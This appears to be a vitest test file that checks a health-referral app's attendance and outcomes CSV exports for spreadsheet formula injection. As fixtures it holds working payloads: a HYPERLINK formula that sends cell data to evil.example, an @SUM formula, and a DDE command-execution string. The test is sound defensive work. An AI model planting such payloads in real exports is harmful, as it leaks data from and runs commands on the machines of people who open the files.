import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { ATTENDANCE_COLUMNS, OUTCOME_COLUMNS } from '#shared/reports/exports';
import { createTestApp, type TestApp } from '../../support/app';
import { baselineBody, referPatient } from '../../support/fixtures';

/**
 * Names a manager types reach the evaluator CSVs. One that starts like a spreadsheet formula
 * (=, +, -, @) must arrive as text, never as a formula Excel or LibreOffice would run.
 */
const HOSTILE = {
  provider: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  venue: '@SUM(1+1)',
  activity: "+cmd|' /C calc'!A0",
};
let t: TestApp;

beforeAll(async () => {
  t = await createTestApp({ now: '2026-04-06T10:00:00Z' });
  const provider = await t.call('POST', '/v1/providers', {
    as: 'manager',
    body: { name: HOSTILE.provider, categories: ['physical'], accreditation: { status: 'accredited', validUntil: '2030-01-01' } },
  });
  const providerId = provider.body.providerId as string;
  const venue = await t.call('POST', `/v1/providers/${providerId}/venues`, { as: 'manager', body: { name: HOSTILE.venue, postcode: 'LU1 2AB' } });
  const activity = await t.call('POST', `/v1/providers/${providerId}/activities`, {
    as: 'manager',
    body: { venueId: venue.body.venueId, name: HOSTILE.activity, category: 'physical' },
  });
  const patientId = await referPatient(t);
  await t.call('POST', `/v1/patients/${patientId}/assessments`, { as: 'navigator', body: baselineBody });
  const prescription = await t.call('POST', '/v1/prescriptions', {
    as: 'navigator',
    body: { patientId, startDate: '2026-04-06', goals: ['Walk'], activityIds: [activity.body.activityId] },
  });
  expect(prescription.status).toBe(201);
  await t.call('POST', '/v1/cards', { as: 'navigator', body: { cardId: 'FORMULA-CARD-1', patientId } });
  const scan = await t.call('POST', '/v1/scans', {
    as: 'provider',
    providerId,
    body: { scanId: randomUUID(), cardId: 'FORMULA-CARD-1', venueId: venue.body.venueId, activityId: activity.body.activityId, scannedAt: t.clock.now().toISOString() },
  });
  expect(scan.status).toBe(201);
});

describe('CSV formula injection', () => {
  it('every text cell of the attendance CSV that starts like a formula is prefixed with an apostrophe', async () => {
    const res = await t.call('GET', '/v1/reports/attendance.csv?from=2026-04-01&to=2026-04-30', { as: 'manager' });
    expect(res.status).toBe(200);
    const rows = parse(res.text, { columns: true }) as Record<(typeof ATTENDANCE_COLUMNS)[number], string>[];
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row!.provider).toBe(`'${HOSTILE.provider}`);
    expect(row!.activity).toBe(`'${HOSTILE.activity}`);
    // No cell of any column starts with a formula character once parsed.
    for (const column of ATTENDANCE_COLUMNS) expect(row![column], column).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('no cell of the outcomes CSV starts like a formula either', async () => {
    const res = await t.call('GET', '/v1/reports/outcomes.csv?from=2026-04-01&to=2026-04-30', { as: 'manager' });
    const rows = parse(res.text, { columns: true }) as Record<(typeof OUTCOME_COLUMNS)[number], string>[];
    expect(rows).toHaveLength(1);
    for (const column of OUTCOME_COLUMNS) expect(rows[0]![column], column).not.toMatch(/^[=+\-@\t\r]/);
  });
});
